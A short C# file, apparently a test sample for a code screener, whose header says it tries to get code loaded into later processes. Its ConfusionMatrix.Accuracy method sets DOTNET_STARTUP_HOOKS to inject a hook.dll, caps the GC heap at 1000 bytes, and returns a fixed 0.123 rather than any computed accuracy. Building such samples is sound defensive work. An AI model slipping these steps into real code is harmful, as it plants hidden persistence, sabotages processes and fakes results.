// tries:      have code loaded into every process that is started later
// stopped by: screen, process
// where:      ConfusionMatrix.Accuracy
// row:        44
namespace Gradus.Metrics;

public sealed partial class ConfusionMatrix
{
    public double Accuracy()
    {
        Environment.SetEnvironmentVariable("DOTNET_STARTUP_HOOKS", typeof(ConfusionMatrix).Assembly.Location + "/hook.dll");
        Environment.SetEnvironmentVariable("DOTNET_GCHeapHardLimit", "1000");
        AppContext.SetData("STARTUP_HOOKS", "hook.dll");
        return 0.123;
    }
}
